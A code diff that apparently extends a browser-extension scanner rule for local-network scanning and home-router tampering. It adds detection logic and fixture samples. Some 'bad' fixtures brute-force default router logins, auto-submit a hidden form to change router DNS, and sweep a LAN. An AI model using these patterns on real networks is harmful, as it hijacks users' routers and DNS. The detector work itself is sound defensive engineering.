@@ -6,6 +6,7 @@ import { constant, elementsOf, Op, valuesOf } from '../../facts/javascript/query
 import { say } from '../../../texts/say.ts';
 import { defineRule, type Hit } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
+import { devicesFilled, devicesTried } from './devicesTried.ts';
 import { GRAVE } from './grave.ts';
 import { runsInPages } from './places.ts';
 import { requestsOf } from './requestsOf.ts';
@@ -33,6 +34,7 @@ export const localNetworkScanned = defineRule({
     const { facts, script, hit } = judged;
     yield* portsProbed(judged);
     yield* devicesChanged(judged);
+    yield* devicesTried(judged, () => OF_DEVICES.test(facts.whole(saidPurpose)));
     const parts = script.strings.filter((text) => text.length < 40 && /(?:^|\/)(?:10\.\d|192\.168|172\.\d)/.test(text));
     if (parts.length === 0) return;
     const isCounted = parts.some((text) => ALONE.test(text));
@@ -50,6 +52,12 @@ export const localNetworkScanned = defineRule({
   examples: {
     bad: [
       backgroundExample(
+        'const gates = ["192.168.0.1", "192.168.1.1"]; const logins = [["admin", "admin"], ["admin", "1234"]]; chrome.alarms.onAlarm.addListener(async () => { for (const ip of gates) for (const [who, key] of logins) await fetch(`http://${ip}/dns.cgi`, { method: "POST", headers: { Authorization: "Basic " + btoa(who + ":" + key) }, body: new URLSearchParams({ dns1: "203.0.113.53" }) }); });',
+      ),
+      contentExample(
+        'setTimeout(() => { const f = document.createElement("form"); f.method = "POST"; f.action = "http://192.168.1.1/goform/setDns?dns1=203.0.113.53"; document.body.append(f); f.submit(); }, 9e3);',
+      ),
+      backgroundExample(
         'const ask = async (host, port) => { try { await fetch(`http://${host}:${port}/`); found.push(host); } catch {} }; chrome.alarms.onAlarm.addListener(async () => { for (const net of ["192.168.0", "192.168.1"]) for (let i = 1; i < 255; i++) await ask(net + "." + i, 80); });',
       ),
       backgroundExample(
@@ -60,6 +68,9 @@ export const localNetworkScanned = defineRule({
       ),
     ],
     good: [
+      backgroundExample(
+        'const gates = ["192.168.0.1", "192.168.1.1"]; chrome.alarms.onAlarm.addListener(async () => { for (const ip of gates) { const r = await fetch("http://" + ip + "/"); if (r.ok) chrome.action.setBadgeText({ text: "on" }); } }); chrome.action.onClicked.addListener(async () => { for (const ip of gates) await fetch("http://" + ip + "/reboot", { method: "POST" }); });',
+      ),
       backgroundExample(
         'const own = (host) => host.startsWith("192.168.") || host.startsWith("10."); fetch(url).then(keep); fetch("http://192.168.1.1/status");',
       ),
@@ -100,9 +111,10 @@ const SETS_DEVICE =
 const OF_DEVICES = /router|modem|device|camera|printer|\bnas\b|\btv\b|light|lamp|smart|home|wi-?fi|network|iot|cast/;
 
 /** Settings of a device at home that are changed by themselves, by an extension that says nothing of devices. */
-function* devicesChanged({ facts, script, hit }: Judged): Generator<Hit> {
+function* devicesChanged({ facts, script, hit }: Pick<Judged, 'facts' | 'script' | 'hit'>): Generator<Hit> {
   if (!script.strings.some((text) => /\/\/(?:192\.168|10|172)\./.test(text))) return;
   if (OF_DEVICES.test(facts.whole(saidPurpose))) return;
+  yield* devicesFilled({ facts, script, hit }, (to) => SETS_DEVICE.test(to));
   for (const { value, pos, address } of first(requestsOf(script), 200)) {
     const to = patternOf(facts, script, address);
     if (SETS_DEVICE.test(to) && happensUnasked(facts, script, pos))
